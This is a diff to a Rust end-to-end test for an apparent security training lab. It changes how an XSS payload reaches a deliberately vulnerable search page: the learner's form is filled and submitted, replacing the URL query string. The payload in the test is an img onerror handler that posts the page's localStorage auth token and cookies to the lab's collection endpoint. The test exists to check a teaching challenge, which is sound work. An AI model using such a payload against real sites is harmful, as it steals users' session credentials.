@@ -1692,11 +1692,15 @@ async fn script_injected_into_the_xss_page_steals_the_local_storage_token_but_no
         "not_started"
     );
     let injected = "<img src=x onerror=\"fetch('/lab/vulnerable/xss/collect',{method:'POST',body:localStorage.getItem('authlab.token')+' '+document.cookie}).then(function(r){return r.json()}).then(function(a){document.title='stolen:'+a.solved+':'+a.http_only_cookie_seen})\">";
-    let url = format!(
-        "/lab/vulnerable/xss?q={}",
-        percent_encoding::utf8_percent_encode(injected, percent_encoding::NON_ALPHANUMERIC)
-    );
-    browser.goto(&app, &url).await;
+    // The learner's own search: typed into the page's form, as the challenge says.
+    browser.goto(&app, "/lab/vulnerable/xss").await;
+    browser.fill("#xss-q", injected).await;
+    run_js(
+        &browser,
+        "document.getElementById('xss-search').submit();",
+        vec![],
+    )
+    .await;
     let deadline = Instant::now() + Duration::from_secs(10);
     let title = loop {
         let title = browser.client.title().await.unwrap_or_default();
